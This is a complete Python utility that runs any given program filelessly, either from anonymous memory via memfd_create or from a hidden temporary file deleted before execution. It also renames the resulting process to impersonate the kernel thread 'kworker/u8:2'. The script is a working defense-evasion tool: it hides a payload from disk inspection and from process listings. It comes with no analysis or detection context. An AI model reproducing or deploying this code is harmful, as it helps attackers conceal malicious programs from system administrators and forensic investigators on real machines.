"""Runs a program that is in no file anybody could look at: fileless.py memfd|deleted PROGRAM ARGUMENT... memfd: from
anonymous memory. deleted: from a file that was taken away before."""

import os
import sys

how, program, *arguments = sys.argv[1:]
with open(program, "rb") as file:
    content = file.read()
if how == "memfd":
    number = os.memfd_create("")
    os.write(number, content)
else:
    path = "/tmp/.run"
    with open(path, "wb") as file:
        file.write(content)
    os.chmod(path, 0o755)
    number = os.open(path, os.O_RDONLY)
    os.unlink(path)
os.set_inheritable(number, True)
os.execve(f"/proc/self/fd/{number}", ["kworker/u8:2", *arguments], dict(os.environ))
